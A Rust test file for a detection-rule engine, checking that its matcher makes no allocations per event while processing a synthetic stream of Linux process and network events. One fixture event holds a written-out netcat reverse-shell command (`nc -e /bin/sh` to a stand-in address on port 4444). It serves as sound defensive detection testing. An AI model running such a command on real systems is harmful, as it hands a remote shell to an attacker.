//! The seed matcher allocates nothing per event once warmed up: a counting global
//! allocator watches a long stream (benign events, near misses and full reverse-shell
//! sequences over many hosts and entities) fed through `SlotBuf` and the pack.

use eqlc_rules::Bundled;
use eqlc_sdk::runtime::{EventRef, RulePack, SlotBuf};
use eqlc_test_support::{thread_allocations, Counting};
use serde_json::{json, Value};

#[global_allocator]
static GLOBAL: Counting = Counting;

const SEC: i64 = 1_000_000_000;

/// A cyclic stream of events (index `i`): per host and entity a benign exec, a reverse
/// shell exec, a connection to a public address, a connection to loopback.
fn event(i: u64) -> (Value, i64) {
    let t = 1_793_000_000 * SEC + i as i64 * 1_000_000;
    let host = format!("host-{}", (i / 4) % 37);
    let entity = format!("entity-{}", (i / 4) % 5000);
    let ts = {
        let mut s = String::new();
        eqlc_sdk::runtime::time::format_rfc3339(t, &mut s).unwrap();
        s
    };
    let v = match i % 4 {
        0 => {
            json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                    "host": {"id": host, "os": {"type": "linux"}},
                    "process": {"entity_id": entity, "name": "ls", "args": ["ls", "-la"], "args_count": 2,
                                "parent": {"name": "bash"}}})
        }
        1 => {
            json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                    "host": {"id": host, "os": {"type": "linux"}},
                    "process": {"entity_id": entity, "name": "nc", "args": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
                                "args_count": 5, "parent": {"name": "sh"}}})
        }
        2 => {
            json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
                    "host": {"id": host, "os": {"type": "linux"}},
                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "203.0.113.9"}})
        }
        _ => {
            json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
                    "host": {"id": host, "os": {"type": "linux"}},
                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "127.0.0.1"}})
        }
    };
    (v, t)
}

#[test]
fn zero_allocations_per_event_after_warm_up() {
    // Build the events up front: JSON construction allocates, matching must not.
    let events: Vec<(Value, i64)> = (0..40_000).map(event).collect();
    let mut pack = Bundled::with_capacity(100_000);
    let mut buf = SlotBuf::new(pack.fields().len());
    let mut alerts = 0u64;
    let mut feed = |range: std::ops::Range<usize>, pack: &mut Bundled, buf: &mut SlotBuf| {
        for i in range {
            let (e, t) = &events[i];
            buf.clear();
            buf.fill_from(e, pack.fields());
            let view = buf.view("");
            pack.on_event(
                &view,
                EventRef {
                    handle: i as u64,
                    ts: *t,
                },
                &mut |_| alerts += 1,
            );
        }
    };
    // Warm-up: every key and buffer has been seen once.
    feed(0..20_000, &mut pack, &mut buf);
    let before = thread_allocations();
    feed(20_000..40_000, &mut pack, &mut buf);
    let after = thread_allocations();
    // One alert per (host, entity) pair per cycle: event 1 then event 2 of each group of 4.
    assert_eq!(alerts, 10_000, "every planted shell alerts once");
    assert_eq!(
        after - before,
        0,
        "allocations while matching 20,000 events"
    );
}
